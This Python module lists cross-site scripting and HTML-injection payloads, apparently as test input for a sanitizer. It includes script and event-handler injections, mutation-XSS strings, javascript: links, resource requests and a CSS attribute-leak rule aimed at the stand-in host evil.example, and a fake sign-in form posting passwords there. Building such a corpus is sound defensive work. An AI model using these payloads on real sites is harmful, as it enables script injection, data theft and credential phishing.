"""What is tried to get a script, a request or a form into somebody else's page. `evil.example` is the attacker's."""

from __future__ import annotations

RUN = "window.top.hacked=1"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<script\n>{RUN}</script\n>",
    f"<<script>{RUN}//<</script>",
    f"</title></textarea></style></noscript></script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<img/src='x'/onerror={RUN}>",
    f'<img src="x" title="\' onerror={RUN} x=\'">',
    f"<img src=x:x onerror&#61;{RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>go</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}></svg>#x'></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<p style='animation:x' onanimationstart={RUN}>x</p>",
    f"<div onpointerenter={RUN} style='position:fixed;inset:0'>x</div>",
)
# What a cleaner reads one way and a browser another.
MUTATIONS = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN}></style></annotation-xml></math>",
    f"<template><script>{RUN}</script></template>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<a href='`><img src=x onerror={RUN}>`'>x</a>",
    f"<p><a title='</p><img src=x onerror={RUN}>'>x</a></p>",
    f"<div><![CDATA[<img src=x onerror={RUN}>]]></div>",
    f"<style><style/><img src=x onerror={RUN}>",
    f"```\n</code></pre><img src=x onerror={RUN}>\n```",
    "<ul><li>" * 80 + f"<img src=x onerror={RUN}>",
)
LINKS = (
    f"<a href=javascript:{RUN}>go</a>",
    f"<a href=' &#14; javascript:{RUN}'>go</a>",
    f"<a href='java\tscript:{RUN}'>go</a>",
    f"<a href='&#x6a;avascript&colon;{RUN}'>go</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>go</a>",
    f"<a href='vbscript:{RUN}'>go</a>",
    f"[go](javascript:{RUN})",
    f"[go]( javascript:{RUN})",
    "[go](data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+)",
    f"<javascript:{RUN}>",
    f"[go]: javascript:{RUN}\n\n[go]",
)
FRAMES = (
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "<embed src=https://evil.example/x.swf>",
    "<portal src=https://evil.example/></portal>",
    "<fencedframe></fencedframe>",
)
REQUESTS = (
    "<img src=https://evil.example/pixel.png>",
    "![x](https://evil.example/pixel.png)",
    "<img srcset='https://evil.example/pixel.png 1x'>",
    "<picture><source srcset=https://evil.example/x.png><img></picture>",
    "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/y.png) }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<p style='background:url(https://evil.example/b.png)'>x</p>",
    "<style>input[value^='a']{background:url(https://evil.example/a)}</style>",
    "<table background=https://evil.example/t.png><tr><td background=https://evil.example/d.png>x</table>",
    "<video poster=https://evil.example/p.png></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<svg><image href=https://evil.example/i.png /></svg>",
    "<input type=image src=https://evil.example/i.png>",
    "<a href=/ ping=https://evil.example/ping>x</a>",
)
TAKEOVERS = (
    "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<button form=x formaction=https://evil.example/>go</button>",
    "<p id=main class='site-header menu' data-confirm=x data-refresh=1>clobbers</p>",
    "<img name=body><img id=cookie>",
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *MUTATIONS, *LINKS, *FRAMES, *REQUESTS, *TAKEOVERS)
